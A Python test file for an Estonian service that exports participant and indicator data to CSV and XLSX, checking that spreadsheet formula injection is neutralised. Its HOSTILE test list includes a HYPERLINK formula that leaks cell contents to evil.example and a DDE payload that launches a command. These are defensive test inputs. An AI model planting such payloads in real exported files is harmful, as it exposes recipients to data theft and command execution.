import csv
import io
import zipfile
from dataclasses import replace
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from services.reporting.domain.indicators import compute_indicators
from services.reporting.exports import indicators_csv, indicators_xlsx, participants_csv, participants_xlsx
from services.reporting.exports._cells import clean_text, neutralise
from services.reporting.exports.indicators import HEADINGS as INDICATOR_HEADINGS
from services.reporting.exports.participants import CODEBOOK_HEADINGS, COLUMNS, HEADINGS

from .sample_group import GROUP

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Vaata\")",
    "=1+1",
    "+372 5555 5555",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "#DIV/0!",
    "Mari\x07-Liis",
    "\x01=cmd|' /C calc'!A0",
    "Rida üks\r\nrida kaks",
    "  tühikud  ",
    "'juba apostroof",
    "Õie Šõkolaad-Žürii",
    "",
]


def read_csv(data: bytes):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def csv_bytes(write, rows, **options):
    out = io.BytesIO()
    write(rows, out, **options)
    return out.getvalue()


def xlsx_sheet_rows(data: bytes, sheet: str):
    workbook = load_workbook(io.BytesIO(data))
    return [
        [cell.value for cell in row] for row in workbook[sheet].iter_rows()
    ], workbook[sheet]


def as_csv_text(value):
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.date().isoformat()
    return str(value)


def hostile_group():
    return [
        replace(participant, first_name=HOSTILE[index % len(HOSTILE)], last_name=HOSTILE[-1 - index % len(HOSTILE)],
                city=HOSTILE[(index + 3) % len(HOSTILE)], county="=cmd", municipality="-Tallinn")
        for index, participant in enumerate(GROUP)
    ] + [
        replace(GROUP[0], participant_id=f"h{index}", first_name=text, group_id=text)
        for index, text in enumerate(HOSTILE)
    ]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("x=1", "x=1"),
        ("'=1", "'=1"),
        ("", ""),
    ],
)
def test_neutralise(text, safe):
    assert neutralise(text) == safe


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("\rx", "'\nx"),  # neutralised first, then CR becomes LF as XLSX would make it
        ("a\r\nb", "a\nb"),
        ("\x01=cmd", "'=cmd"),  # a control character cannot hide a formula
        ("Mari\x07-Liis", "Mari-Liis"),
        ("Tõnis", "Tõnis"),
    ],
)
def test_clean_text(text, clean):
    assert clean_text(text) == clean


def test_csv_has_estonian_headings_bom_and_one_row_per_participant():
    data = csv_bytes(participants_csv, GROUP)
    assert data.startswith("\ufeff".encode())
    rows = read_csv(data)
    assert rows[0] == list(HEADINGS)
    for heading in ("Osaleja ID", "Sugu", "Sünniaeg", "Isikukood", "Sisenemise kuupäev", "Väljumise kuupäev",
                    "Väljumise staatus", "Tööturu staatus", "Haridustase (ISCED)"):
        assert heading in rows[0]
    assert len(rows) == 1 + len(GROUP)
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["Osaleja ID"] == "P1"
    assert first["Isikukood"] == "60104180178"
    assert first["Sünniaeg"] == "2001-04-18"
    assert first["Sugu"] == "naine"
    assert first["Vanus sisenemisel"] == "17"
    assert first["Sisenemise kuupäev"] == "2019-04-17"
    assert first["Väljumise staatus"] == "lõpetas"
    assert first["Tööturu staatus"] == "mitteaktiivne"
    assert first["Haridustase (ISCED)"] == "2"
    assert first["Puue"] == "jah"
    assert first["Organisatsiooni liik"] == "kohalik omavalitsus"
    p9 = dict(zip(rows[0], rows[9], strict=True))
    assert (p9["Sugu"], p9["Haridustase (ISCED)"], p9["Puue"]) == ("", "ei soovi vastata", "")
    assert "E-post" not in rows[0] and "p1@example.ee" not in data.decode("utf-8-sig")


def test_csv_to_a_text_stream_a_path_and_with_semicolons(tmp_path):
    text = io.StringIO()
    participants_csv(GROUP, text)
    assert not text.getvalue().startswith("\ufeff")  # the caller chose the encoding
    assert text.getvalue() == csv_bytes(participants_csv, GROUP).decode("utf-8-sig")
    path = tmp_path / "osalejad.csv"
    participants_csv(GROUP, path, delimiter=";")
    assert path.read_bytes().decode("utf-8-sig").splitlines()[0].startswith("Osaleja ID;Eesnimi;")


def test_binary_stream_is_left_open():
    out = io.BytesIO()
    participants_csv(GROUP[:1], out)
    assert not out.closed
    out.write(b"more")


def test_masked_personal_codes_for_previews():
    rows = read_csv(csv_bytes(participants_csv, GROUP, mask_personal_codes=True))
    column = rows[0].index("Isikukood")
    assert rows[1][column] == "6*********8"
    assert rows[3][column] == ""  # P3 has no code


def test_no_csv_cell_can_start_a_formula():
    rows = read_csv(csv_bytes(participants_csv, hostile_group()))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    names = [row[1] for row in rows[1:]]
    assert "'=1+1" in names and "'+372 5555 5555" in names and "'\t=1+1" in names and "'\n=1+1" in names


def test_xlsx_equals_csv_row_for_row():
    group = hostile_group()
    csv_rows = read_csv(csv_bytes(participants_csv, group))
    out = io.BytesIO()
    participants_xlsx(group, out)
    xlsx_rows, _ = xlsx_sheet_rows(out.getvalue(), "Osalejad")
    assert [[as_csv_text(value) for value in row] for row in xlsx_rows] == csv_rows


def test_xlsx_holds_no_formula_and_keeps_types():
    out = io.BytesIO()
    participants_xlsx(hostile_group(), out)
    data = out.getvalue()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    rows, sheet = xlsx_sheet_rows(data, "Osalejad")
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str) and cell.value.startswith("'"):
                assert cell.data_type == "s"
    headings = rows[0]
    first = dict(zip(headings, rows[1], strict=True))
    assert first["Isikukood"] == "60104180178"  # text, not a rounded number
    assert first["Sünniaeg"] == datetime(2001, 4, 18)
    assert first["Vanus sisenemisel"] == 17 and first["Haridustase (ISCED)"] == 2
    error_lookalikes = [cell for row in sheet.iter_rows() for cell in row if cell.value in ("#N/A", "#DIV/0!")]
    assert error_lookalikes and all(cell.data_type == "s" for cell in error_lookalikes)


def test_xlsx_codebook_describes_every_column():
    out = io.BytesIO()
    participants_xlsx(GROUP, out)
    workbook = load_workbook(io.BytesIO(out.getvalue()))
    assert workbook.sheetnames == ["Osalejad", "Koodiraamat"]
    rows = [[cell.value for cell in row] for row in workbook["Koodiraamat"].iter_rows()]
    assert rows[0] == list(CODEBOOK_HEADINGS)
    assert [row[0] for row in rows[1:]] == list(HEADINGS)
    assert all(row[1] and row[2] for row in rows[1:])
    allowed = {row[0]: row[2] for row in rows[1:]}
    assert "naine (female)" in allowed["Sugu"] and "mittebinaarne (non_binary)" in allowed["Sugu"]
    assert "pikaajaline töötu (long_term_unemployed)" in allowed["Tööturu staatus"]
    assert "ei soovi vastata (declined)" in allowed["Puue"]


def test_xlsx_to_a_path(tmp_path):
    path = tmp_path / "osalejad.xlsx"
    participants_xlsx(GROUP, path)
    assert load_workbook(path)["Osalejad"].max_row == 1 + len(GROUP)


def test_every_column_has_an_estonian_codebook_entry():
    assert len({column.heading for column in COLUMNS}) == len(COLUMNS)


def test_indicators_xlsx_equals_indicators_csv():
    rows = compute_indicators("esf_2014_2020", GROUP)
    out = io.BytesIO()
    indicators_xlsx(rows, out)
    xlsx_rows, _ = xlsx_sheet_rows(out.getvalue(), "Näitajad")
    csv_rows = read_csv(csv_bytes(indicators_csv, rows))
    assert [[as_csv_text(value) for value in row] for row in xlsx_rows] == csv_rows
    assert xlsx_rows[0] == list(INDICATOR_HEADINGS)
    by_code = {row[0]: dict(zip(INDICATOR_HEADINGS, row, strict=True)) for row in xlsx_rows[1:]}
    assert by_code["CO01"]["Kokku"] == 4 and by_code["CO01"]["Naised"] == 1 and by_code["CO01"]["Mehed"] == 2
    assert by_code["CO01"]["Andmed puuduvad"] == 1 and by_code["CO01"]["Ei soovinud vastata"] == 1
    assert by_code["CO01"]["Ühik"] == "osalejad" and by_code["PS-KOV"]["Ühik"] == "üksused"
    # not collected: blank counts and a note, never a misleading 0
    assert by_code["CO12"]["Kokku"] is None and by_code["CO12"]["Märkus"] == "andmeid ei koguta"
    assert by_code["CO04"]["Kokku"] == 0 and by_code["CO04"]["Märkus"] is None


def test_indicator_names_are_neutralised_too():
    rows = compute_indicators("esf_plus_2021_2027", GROUP)
    rows[0] = replace(rows[0], name_et="=cmd")
    data = csv_bytes(indicators_csv, rows)
    assert read_csv(data)[1][1] == "'=cmd"


def test_dates_are_iso_in_csv():
    rows = read_csv(csv_bytes(participants_csv, [replace(GROUP[0], exit_date=date(2019, 6, 6))]))
    assert rows[1][rows[0].index("Väljumise kuupäev")] == "2019-06-06"


def test_str_subclasses_are_neutralised_too():
    class Markup(str):
        pass

    rows = read_csv(csv_bytes(participants_csv, [replace(GROUP[0], first_name=Markup("=1+1"))]))
    assert rows[1][1] == "'=1+1"
